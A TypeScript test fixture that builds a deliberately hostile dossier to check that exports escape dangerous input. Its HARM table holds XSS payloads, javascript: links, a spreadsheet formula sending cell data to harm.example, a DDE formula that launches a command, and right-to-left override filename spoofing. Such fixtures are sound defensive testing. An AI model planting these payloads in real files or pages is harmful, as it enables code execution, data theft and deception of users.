import type { Dossier } from '../../src/model.ts';
import { ISLAND_TEXTS, islandsOf } from './islands.ts';

/**
 * A paper that means harm: markup, scripts, formulas, control characters, marks that turn the direction of writing, half
 * of a character, an address that is a script. Wherever it comes out, it must come out as words.
 */

/** Each begins a cell or a line somewhere, because that is where a spreadsheet or a reader of Markdown acts on it. */
export const HARM = {
  script: '<script>globalThis.harmed=1</script>',
  image: '<img src=x onerror="globalThis.harmed=1">',
  entity: '&lt;b&gt; &amp;amp; &#x41;',
  comment: ']]> --> <!-- <?xml version="1.0"?>',
  formula: '=HYPERLINK("http://harm.example/?"&A1;"klik")',
  plus: "+1+cmd|'/c calc'!A0",
  minus: '-2+3',
  at: '@SUM(1)',
  tab: '\t=1+1',
  markdown: '# kop [klik](javascript:globalThis.harmed=1) `code` **vet** | cel |',
  control: 'nul\u0000 bel\u0007 vt\u000b esc\u001b del\u007f c1\u0085 einde',
  direction: 'omgekeerd \u202Egnp.exe\u202C \u2066los\u2069 \u200Fmerk',
  half: 'half \uD83D teken, niet-teken \uFFFE',
  link: 'javascript:globalThis.harmed=1',
} as const;

const ALL = Object.values(HARM).join(' ');
const dress = <T extends string | null>(words: T): T | string =>
  words === null ? `${HARM.formula} ${ALL}` : `${HARM.plus} ${words} ${ALL}`;

/** The sentences of the made dossier between two helpings of it, one of them beginning with a formula. */
const texts = Object.fromEntries(
  Object.entries(ISLAND_TEXTS).map(([id, sentences]) => [
    id,
    sentences.map((text, i) => `${i === 0 ? HARM.formula : HARM.at} ${text} ${ALL}`),
  ]),
);

export const HOSTILE: Dossier = islandsOf({
  texts,
  dress,
  referencesIn: (text) => {
    const from = text.indexOf(HARM.link);
    return [
      { kind: 'url', span: { from, to: from + HARM.link.length }, text: HARM.link, target: HARM.link },
      { kind: 'url', span: { from, to: from + 10 }, text: 'javascript', target: 'https://harm.example/"><script>' },
    ];
  },
});
